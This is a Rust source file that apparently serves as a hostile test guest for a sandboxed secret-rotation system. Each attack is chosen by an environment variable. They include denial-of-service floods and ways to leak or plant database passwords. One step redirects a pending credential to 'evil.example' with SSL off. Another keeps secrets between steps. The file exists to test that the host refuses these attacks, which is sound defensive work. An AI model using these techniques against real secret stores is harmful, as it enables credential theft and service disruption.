//! A rotator that means no good: what it tries is the variable `ATTACK` of its environment.
//!
//! Attacks that crash or flood do so in whatever step is run. Those that want a password end with `permanent` and what they
//! got: the test looks for the password in it.

#![expect(
    clippy::disallowed_methods,
    reason = "a guest's environment is what it is told by, and it sleeps on purpose"
)]

mod connections;

use std::cell::RefCell;
use std::hint::black_box;
use std::sync::atomic::{AtomicU32, Ordering};

use pawl_guest::{Failure, Rotation, Rotator, Rules, Session, Version, export, log};

struct Attacks;

/// What is told of an attack that went through.
const ALLOWED: &str = "it was allowed";

/// Where a field could hold a password in clear, if anything let it.
const FIELDS: [&str; 8] =
    ["password", "Password", "PASSWORD", " password", "password\0", "SecretString", "$", "note"];

fn attack(rotation: &Rotation) -> Result<(), Failure> {
    let name = std::env::var("ATTACK").unwrap_or_default();
    match name.as_str() {
        "loop" => loop {
            black_box(());
        },
        "panic" => crash(),
        "exit" => std::process::exit(0),
        "memory" => hoard(),
        "recursion" => {
            black_box(recurse(1));
            Ok(())
        }
        "call-flood" => loop {
            let _ = rotation.pending();
        },
        "log-flood" => loop {
            log!("{}", "x".repeat(64 * 1024));
        },
        "failure-giant" => Err(Failure::Permanent("x".repeat(8 * 1024 * 1024))),
        "byte-flood" => loop {
            let _ = rotation.open(&"x".repeat(900 * 1024));
        },
        "log-giant" => {
            log!("{}", "x".repeat(8 * 1024 * 1024));
            Ok(())
        }
        "stderr-flood" => loop {
            eprintln!("{}", "x".repeat(4 * 1024));
        },
        "list-giant" => {
            let draft =
                (0..200_000).fold(rotation.current()?.with("a", "b"), |draft, _| draft.with("a", "b"));
            rotation.put_pending(&draft)?;
            Ok(())
        }
        "handle-leak" => {
            let version = rotation.current()?;
            let mut kept = Vec::new();
            loop {
                kept.push(version.sensitive("password")?);
            }
        }
        "sleep" => {
            std::thread::sleep(std::time::Duration::from_secs(3_600));
            Ok(())
        }
        "read" => told(read(rotation)?),
        "move-to-readable" => told(move_to_readable(rotation)?),
        "plant" => {
            told(refusal(rotation.put_pending(&rotation.current()?.with("password", "known to the author"))))
        }
        "weak-rules" => told(weak_rules(rotation)),
        "reuse" => {
            let current = rotation.current()?;
            let password = current.sensitive("password")?;
            told(refusal(rotation.put_pending(&current.with("password", password))))
        }
        "old-version" => told(old_version(rotation)?),
        "redirect" => told(redirect(rotation)?),
        "other-secret" => told(refusal(rotation.open("another"))),
        "granted-secret" => told(granted_secret(rotation)?),
        "other-account" => told(other_account(rotation)?),
        "login" => told(refusal(Session::login(&rotation.current()?))),
        "host" => told(host()),
        name if name.starts_with("tcp-") => told(connections::attack(name, rotation)?),
        other => told(format!("{other} is no attack")),
    }
}

#[expect(clippy::panic, reason = "the attack itself")]
fn crash() -> ! {
    panic!("this guest panics on purpose")
}

fn hoard() -> ! {
    let mut hoard = Vec::new();
    loop {
        hoard.push(black_box(vec![1_u8; 1024 * 1024]));
    }
}

#[expect(unconditional_recursion, reason = "the attack itself")]
fn recurse(depth: u64) -> u64 {
    let here = black_box([depth; 64]);
    here.iter().sum::<u64>().wrapping_add(recurse(black_box(depth.wrapping_add(1))))
}

fn told(text: String) -> Result<(), Failure> {
    log!("{text}");
    Err(Failure::Permanent(text))
}

fn refusal<T>(result: Result<T, impl std::fmt::Debug>) -> String {
    match result {
        Ok(_) => ALLOWED.to_owned(),
        Err(error) => format!("refused: {error:?}"),
    }
}

fn look_at(version: &Version) -> String {
    FIELDS.iter().map(|field| format!("{field:?} = {:?}; ", version.find_text(field))).collect()
}

/// Every way to a text.
fn read(rotation: &Rotation) -> Result<String, Failure> {
    let current = rotation.current()?;
    let password = current.sensitive("password")?;
    // To log in is a rotator's right, and tells nothing. So does what a statement says that fails.
    let session = Session::login(&current)?;
    let change = refusal(session.set_password("no such account", &password));
    Ok(format!("{} {password:?} {change}", look_at(&current)))
}

/// The password in a field that can be read.
fn move_to_readable(rotation: &Rotation) -> Result<String, Failure> {
    let mut answers = String::new();
    for field in ["note", "username", "host", "dbname", "engine"] {
        let current = rotation.current()?;
        let old = current.sensitive("password")?;
        let new = rotation.random_password(&Rules::default())?;
        let put = rotation.put_pending(&current.with("password", new).with(field, old));
        answers.push_str(&match put {
            Ok(version) => format!("{field} took it: {:?} {}; ", version.find_text(field), look_at(&version)),
            Err(error) => format!("{field} refused: {error:?}; "),
        });
    }
    Ok(answers)
}

/// Passwords that could be guessed.
fn weak_rules(rotation: &Rotation) -> String {
    let digits = Rules {
        exclude_lowercase: Some(true),
        exclude_uppercase: Some(true),
        exclude_punctuation: Some(true),
        ..Rules::default()
    };
    let rules = [
        Rules { length: Some(4), ..Rules::default() },
        // Long, and of one character.
        Rules { length: Some(64), exclude_characters: Some("012345678".to_owned()), ..digits.clone() },
        Rules { length: Some(64), exclude_numbers: Some(true), ..digits.clone() },
        Rules { length: Some(20), ..digits },
        Rules { length: Some(0), ..Rules::default() },
        Rules { length: Some(u32::MAX), ..Rules::default() },
    ];
    let answers: Vec<_> = rules.iter().map(|rules| refusal(rotation.random_password(rules))).collect();
    // Told first, since what is told is cut.
    match answers.iter().position(|answer| answer == ALLOWED) {
        Some(number) => format!("{ALLOWED}: {:?}", rules.get(number)),
        None => answers.join("; "),
    }
}

/// The password before last, by way of the version that a pending one is made of.
fn old_version(rotation: &Rotation) -> Result<String, Failure> {
    let Some(previous) = rotation.previous()? else { return Ok("there is no previous version".to_owned()) };
    let user = previous.text("username")?;
    Ok(refusal(rotation.put_pending(&previous.with("username", user))))
}

/// Another secret, which was granted: what is there besides its login?
fn granted_secret(rotation: &Rotation) -> Result<String, Failure> {
    let other = rotation.open("another")?;
    let seen = look_at(&other);
    let handles: Vec<_> = FIELDS.iter().filter(|field| other.find_sensitive(field).is_some()).collect();
    let new = rotation.random_password(&Rules::default())?;
    Ok(format!("{seen} {handles:?} {}", refusal(rotation.put_pending(&other.with("password", new)))))
}

/// The password of an account that is not the secret's.
fn other_account(rotation: &Rotation) -> Result<String, Failure> {
    let current = rotation.current()?;
    let session = Session::login(&rotation.current()?)?;
    let draft = current.with("password", rotation.random_password(&Rules::default())?);
    let pending = rotation.put_pending(&draft.with("username", "postgres"))?;
    Ok(refusal(session.set_password("postgres", &pending.sensitive("password")?)))
}

/// How often this instance has run a step: never, whoever comes first.
static STEPS: AtomicU32 = AtomicU32::new(0);
thread_local! {
    /// All that was ever seen, for the next to find.
    static SEEN: RefCell<Vec<String>> = const { RefCell::new(Vec::new()) };
}

/// Does a rotator's work, keeps all that it sees, tells it by every channel, and looks whether an earlier step has kept something.
fn remember(rotation: &Rotation, step: impl FnOnce(&Rotation) -> Result<(), Failure>) -> Result<(), Failure> {
    if STEPS.fetch_add(1, Ordering::SeqCst) != 0 || SEEN.with_borrow(|seen| !seen.is_empty()) {
        return Err(Failure::Permanent("I remember an earlier step".to_owned()));
    }
    let mut seen = Vec::new();
    let versions = [Some(rotation.current()?), rotation.find_pending()?, rotation.previous()?];
    for version in versions.into_iter().flatten() {
        seen.push(look_at(&version));
        seen.push(format!("{:?}", version.find_text("dbname")));
        for field in FIELDS {
            seen.push(format!("{:?}", version.find_sensitive(field)));
        }
        // The server's words, and the host's, of a login and of a statement that fails.
        let login = Session::login(&version);
        if let Ok(session) = &login {
            let password = version.sensitive("password")?;
            seen.push(format!("{:?}", session.set_password("nobody's account", &password)));
        }
        seen.push(format!("{login:?}"));
    }
    for line in &seen {
        log!("{line}");
        eprintln!("{line}");
    }
    let did = step(rotation);
    SEEN.with_borrow_mut(|kept| kept.append(&mut seen));
    did
}

fn rotate(rotation: &Rotation) -> Result<(), Failure> {
    rotation
        .create_pending(|current| Ok(current.with("password", rotation.random_password(&Rules::default())?)))
}

/// A pending version that logs in at a server of the guest's own.
fn redirect(rotation: &Rotation) -> Result<String, Failure> {
    let mut answers = String::new();
    let port = std::env::var("EVIL_PORT").unwrap_or_else(|_| "1".to_owned());
    for (field, value) in
        [("host", "evil.example"), ("port", port.as_str()), ("ssl", "false"), ("engine", "mysql")]
    {
        let draft = rotation.current()?.with("password", rotation.random_password(&Rules::default())?);
        let put = rotation.put_pending(&draft.with(field, value)).map(drop);
        answers.push_str(&format!("{field}: {}; ", refusal(put)));
    }
    Ok(answers)
}

/// What a guest could see of the machine that it runs on. Files and sockets are not even named here: a component that does is
/// refused before it runs.
fn host() -> String {
    let thread = std::thread::Builder::new().spawn(|| ()).map(drop);
    let variables = std::env::vars().map(|(name, _)| name).collect::<Vec<_>>();
    let mut input = String::new();
    let read = std::io::Read::read_to_string(&mut std::io::stdin(), &mut input);
    format!("{thread:?} {read:?} {input:?} {:?} {variables:?}", std::env::args().collect::<Vec<_>>())
}

fn remembers() -> bool {
    std::env::var("ATTACK").is_ok_and(|name| name == "remember")
}

impl Rotator for Attacks {
    fn create(rotation: &Rotation) -> Result<(), Failure> {
        if remembers() { remember(rotation, rotate) } else { attack(rotation) }
    }

    fn set(rotation: &Rotation) -> Result<(), Failure> {
        if !remembers() {
            return attack(rotation);
        }
        remember(rotation, |rotation| {
            let pending = rotation.pending()?;
            let login = rotation.login_known()?;
            login.session.set_password(&pending.text("username")?, &pending.sensitive("password")?)?;
            Ok(())
        })
    }

    fn test(rotation: &Rotation) -> Result<(), Failure> {
        if !remembers() {
            return attack(rotation);
        }
        remember(rotation, |rotation| Ok(Session::login(&rotation.pending()?)?.ping()?))
    }

    fn finish(rotation: &Rotation) -> Result<(), Failure> {
        if !remembers() {
            return attack(rotation);
        }
        remember(rotation, |rotation| Ok(rotation.promote()?))
    }
}

export!(Attacks);
